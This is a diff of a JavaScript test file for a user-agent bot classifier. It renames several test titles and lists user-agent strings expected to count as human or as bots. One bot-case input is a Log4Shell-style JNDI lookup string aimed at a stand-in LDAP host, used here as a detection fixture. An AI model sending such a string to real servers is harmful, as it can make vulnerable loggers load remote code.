@@ -59,7 +59,7 @@ test.each([
     'Outlook',
     'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; Microsoft Outlook 16.0.5444; ms-office; MSOffice 16)',
   ],
-])('%s is a person’s', (_, ua) => {
+])('%s is human', (_, ua) => {
   expect(isProgram(ua)).toBe(false);
 });
 
@@ -90,7 +90,7 @@ test.each([
   'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) wkhtmltopdf Safari/538.1',
   '"Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
   `x \${jndi:ldap://a.example/b}`,
-])('%s is a program', (ua) => {
+])('%s is a bot', (ua) => {
   expect(isProgram(ua)).toBe(true);
 });
 
@@ -98,7 +98,7 @@ test('the weak patterns are patterns of isbot', () => {
   for (const pattern of WEAK_PATTERNS) expect(list).toContain(pattern);
 });
 
-test('the patterns of shapes are patterns of isbot too, and none of them is a weak one', () => {
+test('the shape patterns are patterns of isbot too, and none of them is a weak one', () => {
   for (const pattern of SHAPE_PATTERNS) expect(list).toContain(pattern);
   expect(SHAPE_PATTERNS.filter((pattern) => WEAK_PATTERNS.includes(pattern))).toEqual([]);
 });
